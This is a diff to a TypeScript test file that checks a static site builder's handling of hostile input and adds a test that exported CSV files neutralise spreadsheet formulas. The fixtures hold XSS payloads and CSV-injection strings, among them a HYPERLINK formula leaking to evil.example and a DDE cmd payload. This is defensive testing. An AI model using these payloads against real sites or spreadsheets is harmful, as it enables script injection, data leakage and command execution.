@@ -8,11 +8,14 @@ import { copyProject, runScript } from '../helpers/project.ts';
 import { textContent, walkElements } from '../../src/lib/html/dom.ts';
 import { unsafeMarkup } from '../helpers/html-safety.ts';
 import { curlyQuotes } from '../../src/lib/site/typography.ts';
+import { parseCsv } from '../../src/lib/figures/csv.ts';
 
 /** Strings that break naive templating, XML and JSON. */
 const HOSTILE_TITLE = 'Tokens </script><script>alert(1)</script> & "quotes" ]]> \u202Eevil 豆包 ✅';
 const HOSTILE_TAG = '"><img src=x onerror=alert(1)>';
 const HOSTILE_AUTHOR = 'Ann &amp; <b>Bob</b>';
+/** Cells a spreadsheet would run as formulas (OWASP, CSV Injection). */
+const FORMULAS = ['=HYPERLINK("https://evil.example/?leak","Click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-2+3'];
 
 describe('hostile text in frontmatter', () => {
   let dir: string;
@@ -21,11 +24,11 @@ describe('hostile text in frontmatter', () => {
     const yamlString = (s: string) => JSON.stringify(s);
     writeFileSync(
       join(dir, 'content/articles/2026-01-10-hostile.mdx'),
-      `---\ntitle: ${yamlString(HOSTILE_TITLE + '\u0007')}\ndek: ${yamlString('A dek with <b>tags</b> & ]]>')}\npublished: 2026-01-10\nauthors: [${yamlString(HOSTILE_AUTHOR)}]\ntags: [${yamlString(HOSTILE_TAG)}]\nissue: 77\nsources:\n  - name: ${yamlString('Source </a><a href="javascript:alert(1)">')}\n    url: "https://example.org/?a=1&b=2"\n    date: 2026-01-01\nsummary: ${yamlString('One sentence with </script> in it.')}\nkeyFigures: ["hostile.value"]\n---\n\nBody with <Fig id="hostile.value" />.\n\n<Chart type="bar" title={${JSON.stringify(HOSTILE_TAG)}} labels={[${JSON.stringify(HOSTILE_TITLE)}, "豆包"]} datasets={[{ label: ${JSON.stringify(HOSTILE_AUTHOR)}, values: [1, 2] }]} />\n`,
+      `---\ntitle: ${yamlString(HOSTILE_TITLE + '\u0007')}\ndek: ${yamlString('A dek with <b>tags</b> & ]]>')}\npublished: 2026-01-10\nauthors: [${yamlString(HOSTILE_AUTHOR)}]\ntags: [${yamlString(HOSTILE_TAG)}]\nissue: 77\nsources:\n  - name: ${yamlString('Source </a><a href="javascript:alert(1)">')}\n    url: "https://example.org/?a=1&b=2"\n    date: 2026-01-01\nsummary: ${yamlString('One sentence with </script> in it.')}\nkeyFigures: ["hostile.value"]\n---\n\nBody with <Fig id="hostile.value" />.\n\n<Chart type="bar" title={${JSON.stringify(HOSTILE_TAG)}} labels={[${JSON.stringify(HOSTILE_TITLE)}, "豆包"]} datasets={[{ label: ${JSON.stringify(HOSTILE_AUTHOR)}, values: [1, 2] }]} />\n\n<Chart type="bar" title="Formulas" labels={${JSON.stringify(FORMULAS.slice(0, 2))}} datasets={[{ label: ${JSON.stringify(FORMULAS[2])}, values: [-5, 2] }]} />\n`,
     );
     writeFileSync(
       join(dir, 'content/figures/hostile.yaml'),
-      `figures:\n  - id: hostile.value\n    label: ${yamlString(HOSTILE_TITLE)}\n    value: 1\n    unit: count\n    asOf: "2026"\n    note: ${yamlString('Note ]]> & <b>bold</b> \u202E')}\n    source:\n      name: ${yamlString(HOSTILE_TAG)}\n      url: "https://example.org/?a=1&b=2"\n      date: "2026"\n`,
+      `figures:\n  - id: hostile.value\n    label: ${yamlString(HOSTILE_TITLE)}\n    value: 1\n    unit: count\n    asOf: "2026"\n    note: ${yamlString('Note ]]> & <b>bold</b> \u202E')}\n    source:\n      name: ${yamlString(HOSTILE_TAG)}\n      url: "https://example.org/?a=1&b=2"\n      date: "2026"\n  - id: hostile.formula\n    label: ${yamlString(FORMULAS[0]!)}\n    value: -5\n    unit: count\n    asOf: "2026"\n    note: ${yamlString(FORMULAS[1]!)}\n    source:\n      name: ${yamlString(FORMULAS[3]!)}\n      url: "https://example.org/formula"\n      date: "2026"\n`,
     );
     const result = runScript('scripts/build.ts', [], {
       cwd: dir,
@@ -54,11 +57,17 @@ describe('hostile text in frontmatter', () => {
       // The only images are our chart's own static renderings.
       if (
         el.tagName === 'img' &&
-        !/^\/charts\/chart-[0-9a-f]+\.svg$/.test(el.attrs.find((a) => a.name === 'src')?.value ?? '')
+        !/^\/charts\/chart-[0-9a-f]+\.svg#wide$/.test(el.attrs.find((a) => a.name === 'src')?.value ?? '')
       )
         throw new Error('an <img> came from the content');
     });
-    expect(scripts.sort()).toEqual(['application/json', 'application/ld+json', 'classic /site.js', 'module']);
+    // Of these kinds only (the page has two charts, each with its data block).
+    expect([...new Set(scripts)].sort()).toEqual([
+      'application/json',
+      'application/ld+json',
+      'classic /site.js',
+      'module',
+    ]);
     expect(handlers).toEqual([]);
     // The page shows the title typeset (typographer's quotes, like the body); JSON-LD and feeds carry it as written.
     expect(h1).toBe(curlyQuotes(HOSTILE_TITLE));
@@ -102,6 +111,23 @@ describe('hostile text in frontmatter', () => {
     const config = /<script type="application\/json" data-chart-config>([\s\S]*?)<\/script>/.exec(article)![1]!;
     expect(config).not.toMatch(/<\/script/i);
     expect(JSON.parse(config).drawing.labels[0]).toBe(HOSTILE_TITLE);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula in /figures.csv or the chart CSVs, and negative numbers stay numbers', () => {
+    const article = read('articles/hostile/index.html');
+    const csvs = [
+      'figures.csv',
+      ...[...article.matchAll(/href="\/(charts\/chart-[0-9a-f]+\.csv)"/g)].map((m) => m[1]!),
+    ];
+    expect(csvs.length).toBe(3);
+    const cells = csvs.flatMap((file) => parseCsv(read(file)).flatMap((r) => r.cells.map((cell) => ({ file, cell }))));
+    const live = cells.filter(({ cell }) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell)));
+    expect(live).toEqual([]);
+    // Each hostile text is there, as text: led by a single quote.
+    for (const f of FORMULAS) expect(cells.map((c) => c.cell)).toContain(`'${f}`);
+    // The value -5 (a figure's, a chart's) is written as a number a spreadsheet can add up.
+    expect(parseCsv(read('figures.csv')).find((r) => r.cells[0] === 'hostile.formula')!.cells[2]).toBe('-5');
+    expect(cells.some(({ file, cell }) => file.startsWith('charts/') && cell === '-5')).toBe(true);
   });
 
   it('keeps the newsletter edition and the social image safe', () => {
